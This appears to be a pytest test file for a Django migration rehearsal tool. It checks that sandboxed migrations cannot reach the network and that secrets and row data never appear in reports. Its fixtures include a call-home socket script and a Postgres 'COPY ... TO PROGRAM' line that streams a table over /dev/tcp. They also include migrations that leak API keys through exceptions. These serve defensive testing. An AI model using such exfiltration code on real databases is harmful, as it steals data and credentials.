"""What a project tries to reach while it migrates, and what it knows that nobody may read."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support import blog
from tests.support.blog import Production, migration_of
from tests.support.command import Command
from tests.support.engines import needs_confinement
from tests.support.listeners import Listeners, listening

# Reaches for everything there is, as an app that calls home would, and takes no answer for no.
CALLS_HOME = """\
import socket
for family, address in {addresses!r}:
    one = socket.socket(getattr(socket, family), socket.SOCK_STREAM)
    one.settimeout(2)
    try:
        one.connect(tuple(address) if isinstance(address, list) else address)
        one.sendall(b"a row")
    except OSError:
        pass
    one.close()
"""
THROUGH_THE_SERVER = """\
from django.db import transaction
port = {port}
try:
    with transaction.atomic():
        schema_editor.connection.cursor().execute(
            "COPY blog_post TO PROGRAM 'exec 3<>/dev/tcp/127.0.0.1/%d && cat >&3'" % port)
except Exception:
    pass
try:
    import psycopg
    psycopg.connect("host=127.0.0.1 port=%d user=prod_app password=hunter2 connect_timeout=2" % port)
except Exception:
    pass
"""
SECRET = "hunter2-never-shown"


@pytest.fixture
def listeners(migsim: Command) -> Iterator[Listeners]:
    outside = migsim.runs.parent / "s"
    outside.mkdir()
    with listening([outside], relative=False) as opened:
        yield opened


@needs_confinement
def test_nothing_is_reached_and_every_attempt_is_named(
    migsim: Command, production: Production, listeners: Listeners
) -> None:
    production.dump(owner="postgres").rename(migsim.folder / "prod.dump")
    addresses = [(family, address) for _label, family, address in listeners.addresses]
    tcp = next(address for label, _family, address in listeners.addresses if label == "tcp")
    unix = next(address for label, _family, address in listeners.addresses if str(address).startswith("/"))
    assert isinstance(tcp, list)
    body = CALLS_HOME.format(addresses=addresses) + THROUGH_THE_SERVER.format(port=tcp[1])
    blog.write(migsim.folder, {"blog/migrations/0003_calls.py": migration_of(body, "blog.0002_tag")})
    blog.scenario(migsim.folder, rehearse={"confine": "require"})
    report = migsim.rehearse()
    assert listeners.reached == set()
    tried = {(one["kind"], one["address"]) for one in report["connections_tried"]}
    assert ("tcp", f"127.0.0.1:{tcp[1]}") in tried
    assert ("unix", unix) in tried
    assert {kind for kind, _address in tried} == {"tcp", "unix", "server", "libpq"}
    assert "hunter2" not in str(report)


def test_a_refused_connection_that_stops_migrate_is_unknown(migsim: Command) -> None:
    body = "import socket\nsocket.create_connection(('127.0.0.1', 6379), timeout=2)"
    blog.write(migsim.folder, {"blog/migrations/0003_calls.py": migration_of(body, "blog.0002_tag")})
    report = migsim.rehearse()
    assert (report["verdict"], report["failure"]["migration"]) == ("unknown", "blog.0003_calls")
    assert "127.0.0.1:6379" in report["because"]


LEAKS = {
    "an exception with a variable's value": "import os\nraise ValueError('key ' + os.environ['API_KEY'])",
    "an exception with a setting": "from django.conf import settings\nraise ValueError(settings.API_TOKEN)",
    "an exception with a row": "post = apps.get_model('blog', 'Post').objects.first()\nint(post.title)",
    "a cast of a row": "schema_editor.execute('ALTER TABLE blog_post ALTER title TYPE integer USING title::integer')",
    "a duplicate key": "schema_editor.execute('INSERT INTO blog_post (id, title) SELECT id, title FROM blog_post')",
    "a constraint that a row breaks": "schema_editor.execute(\"ALTER TABLE blog_post ADD CHECK (title < 'A')\")",
    "statements with parameters": (
        "schema_editor.connection.cursor().execute('SELECT %s::integer', [apps.get_model('blog', 'Post')"
        ".objects.first().title])"
    ),
}


@pytest.mark.parametrize("body", LEAKS.values(), ids=LEAKS)
def test_no_secret_and_no_row_is_in_anything_that_is_said(migsim: Command, body: str) -> None:
    blog.write(
        migsim.folder,
        {"blog/migrations/0003_leaks.py": migration_of(body, "blog.0002_tag")},
        settings=f"import os\nAPI_TOKEN = 'token-{SECRET}'\nDATABASES['default']['PASSWORD'] = 'db-{SECRET}'\n",
    )
    blog.scenario(migsim.folder, django={"environment": {"API_KEY": f"key-{SECRET}"}})
    done = migsim.run("--format", "json", "--output", "kept")
    assert (done.code, done.report["failure"]["migration"]) == (1, "blog.0003_leaks")
    written = "".join(path.read_text() for path in Path(migsim.folder / "kept").iterdir())
    for text in (done.stdout, done.stderr, written):
        assert SECRET not in text
        assert not re.search("Ann|diary", text)


def test_a_failing_script_quotes_no_row(migsim: Command) -> None:
    (migsim.folder / "cast.sql").write_text("ALTER TABLE blog_post ALTER title TYPE integer USING title::integer;")
    blog.scenario(migsim.folder, baseline=[{"restore": "prod.dump"}, {"sql": "cast.sql"}])
    done = migsim.run("--format", "json")
    assert done.report["findings"][0]["sqlstate"] == "22P02"
    assert not re.search("Ann|diary", done.stdout + done.stderr)
